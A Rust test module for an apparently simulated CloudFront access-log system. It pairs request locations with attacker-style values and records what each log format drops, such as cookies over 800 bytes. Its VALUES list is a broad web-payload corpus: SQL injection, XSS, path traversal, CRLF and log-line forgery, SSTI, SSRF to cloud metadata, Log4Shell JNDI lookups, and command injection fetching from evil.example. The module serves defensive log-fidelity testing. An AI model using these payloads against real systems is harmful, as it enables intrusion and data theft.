//! Values that attackers send, the places where they send them, and what logs lose of them.

use cloudfront_sim::{access_log::LogFormat, http1::Request};

/// A value at a place of a request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Case {
    pub(super) place: Place,
    pub(super) value: Vec<u8>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Place {
    Path,
    Query,
    Header(&'static str),
}

/// What a log does not show of a case. docs/access-logs.md names each reason.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Loss {
    /// No finding depends on such a value.
    AbsentOrDash,
    TruncatedCookie,
}

const PLACES: [Place; 5] = [
    Place::Path,
    Place::Query,
    Place::Header("User-Agent"),
    Place::Header("Referer"),
    Place::Header("Cookie"),
];

/// Of encoded cookies in real-time logs.
const LOGGED_BYTES: usize = 800;

impl Loss {
    pub(super) const ALL: [Self; 2] = [Self::AbsentOrDash, Self::TruncatedCookie];

    /// As the documentation names it.
    pub(super) fn reason(self) -> &'static str {
        match self {
            Self::AbsentOrDash => "Whether a value was empty, absent or `-`",
            Self::TruncatedCookie => "Cookies beyond 800 bytes in real-time logs",
        }
    }
}

impl Case {
    /// Every value at every place where HTTP allows it.
    pub(super) fn all() -> Vec<Self> {
        let long = [b"x".repeat(1_000), b"%61".repeat(2_000), "ü".repeat(900).into_bytes()];
        let long = long.into_iter().map(|padding| [&padding[..], b"&id=1' or 1=1 --"].concat());
        let values: Vec<_> = VALUES.iter().map(|value| value.to_vec()).chain(long).collect();
        PLACES
            .into_iter()
            .flat_map(|place| values.iter().filter_map(move |value| Self::at(place, value)))
            .collect()
    }

    fn at(place: Place, value: &[u8]) -> Option<Self> {
        let value = match place {
            Place::Path => encoded(value, |byte| byte <= b' ' || byte == 0x7f || byte == b'?'),
            Place::Query => encoded(value, |byte| byte <= b' ' || byte == 0x7f),
            // A header has no control bytes but tabs; blanks around it are not its own.
            Place::Header(_) => value.trim_ascii().to_vec(),
        };
        let is_sendable = match place {
            Place::Header(_) => value.iter().all(|byte| *byte == b'\t' || !byte.is_ascii_control()),
            Place::Path | Place::Query => true,
        };
        is_sendable.then_some(Self { place, value })
    }

    pub(super) fn request(&self) -> Request {
        let target = match self.place {
            Place::Path => [b"/", &self.value[..]].concat(),
            Place::Query => [b"/page?", &self.value[..]].concat(),
            Place::Header(_) => b"/page".to_vec(),
        };
        let mut request = Request::new("GET", target, "shop.example.com");
        request.headers.push("User-Agent", "curl/8.5.0");
        if let Place::Header(name) = self.place {
            request.headers.set(name, &self.value);
        }
        request
    }

    /// What the log of this format loses.
    pub(super) fn loss(&self, format: LogFormat) -> Option<Loss> {
        let is_real_time = format == LogFormat::RealTime;
        let is_absent = match self.place {
            // The path begins with a slash, and events do not have the `?` of an empty query.
            Place::Path => false,
            Place::Query => self.value == b"-",
            Place::Header(_) => matches!(&self.value[..], b"-" | b""),
        };
        match self.place {
            // Real-time logs have these values in `cs-uri-stem` and in `cs-headers` as well.
            _ if is_absent => (!is_real_time).then_some(Loss::AbsentOrDash),
            Place::Header("Cookie") if is_real_time && self.value.len() > LOGGED_BYTES => {
                Some(Loss::TruncatedCookie)
            }
            _ => None,
        }
    }
}

/// Percent-encodes these bytes, as clients do it with bytes that a request line cannot have.
fn encoded(value: &[u8], is_encoded: impl Fn(u8) -> bool) -> Vec<u8> {
    let encode = |byte: &u8| {
        if is_encoded(*byte) { format!("%{byte:02x}").into_bytes() } else { vec![*byte] }
    };
    value.iter().flat_map(encode).collect()
}

const VALUES: &[&[u8]] = &[
    // Values that logs write for absent ones, and blanks.
    b"",
    b"-",
    b"--",
    b"a=-",
    b" ",
    b"a b",
    b"a\tb",
    b"\t' or 1=1 --\t",
    // Encodings of the encoding.
    b"%",
    b"%%",
    b"%2",
    b"%zz",
    b"100%",
    b"100%25",
    b"a+b",
    b"a%20b",
    b"a%2520b",
    b"a%252520b",
    b"id=%27+or+1%3d1+--+",
    b"id=%2527%2520or%25201%253d1%2520--",
    b"id=%252527%252520or%2525201%25253d1--",
    b"%3Cscript%3Ealert(1)%3C/script%3E",
    b"%253Cscript%253Ealert(1)%253C/script%253E",
    b"%u0027%20or%201=1--",
    b"%u003cscript%u003ealert(1)",
    b"%00",
    b"file=/etc/passwd%00.png",
    b"file=/etc/passwd\0.png",
    b"\x01\x1f\x7f",
    // Encoded line breaks, and line breaks of the log.
    b"%0d%0aSet-Cookie:%20a=1",
    b"u=x%0d%0aLocation:%20http://evil.example/",
    b"a\r\nb\tc",
    b"x\n2026-01-01\t00:00:00\tforged",
    b"x%0A2026-01-01%0900:00:00%09forged",
    b"\",\"c-ip\":\"192.0.2.1",
    b"\\\",\\\"c-ip\\\":\\\"192.0.2.1",
    b"#Fields: date time",
    b"{\"timestamp\":\"1\"}",
    // UTF-8: overlong, wide, invisible, invalid.
    b"%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    b"\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/etc/passwd",
    b"..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    b"%e0%80%af",
    "＜script＞alert(1)＜/script＞".as_bytes(),
    "%EF%BC%9Cscript%EF%BC%9Ealert(1)".as_bytes(),
    "ʼ or 1=1 --".as_bytes(),
    "ümläut=日本語".as_bytes(),
    "\u{1f600}\u{202e}gpj.exe".as_bytes(),
    "\u{feff}<script>alert(1)</script>".as_bytes(),
    b"caf\xe9",
    b"\xff\xfe' or 1=1 --",
    b"%e9' or 1=1 --",
    b"\xed\xa0\x80<script>alert(1)</script>",
    // Punctuation.
    b"'",
    b"\"",
    b"''\"\"",
    b"\\",
    b"\\'; drop table users; --",
    b"a;b;c",
    b";jsessionid=1;x=' or 1=1 --",
    b"/./;a=b//x",
    b"~^|\\[]{}<>`",
    b"a&b=c&b=d&&",
    b"a[b]=c&a[$ne]=1",
    b"?x?y",
    b"#fragment",
    // A class of attacks each.
    b"id=1' or '1'='1",
    b"id=1/**/union/**/select/**/password/**/from/**/users",
    b"id=1;select pg_sleep(9)",
    b"q=<script>alert(document.cookie)</script>",
    b"q=\"><img src=x onerror=alert`1`>",
    b"q=javascript:alert(1)",
    b"f=../../../../etc/passwd",
    b"f=..%2f..%2f..%2fetc%2fpasswd",
    b"f=..%252f..%252f..%252fetc%252fpasswd",
    b"f=..\\..\\windows\\win.ini",
    b"c=;cat /etc/passwd",
    b"c=$(curl http://evil.example/x|sh)",
    b"c=`id`&&whoami",
    b"() { :;}; /bin/bash -c id",
    b"${jndi:ldap://evil.example/a}",
    b"${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    b"%24%7Bjndi:ldap://evil.example/a%7D",
    b"t={{7*7}}{{config.items()}}",
    b"t=<%= system('id') %>",
    b"t=#{7*7}",
    b"u=http://169.254.169.254/latest/meta-data/",
    b"u=file:///etc/passwd",
    b"u=gopher://127.0.0.1:6379/_FLUSHALL",
    b"next=//evil.example/%2f..",
    b"l=*)(uid=*))(|(uid=*",
    b"n={\"$gt\":\"\"}",
    b"x=<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    b"s=<!--#exec cmd=\"id\"-->",
    b"m=a%0d%0aBcc:victim@example.com",
    b"o=O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    b"__proto__[admin]=1",
    b"sqlmap/1.8#stable (https://sqlmap.org)",
    b"Mozilla/5.0 (compatible; Nikto/2.5.0)",
    b"/.git/config",
    b"/wp-config.php.bak",
];
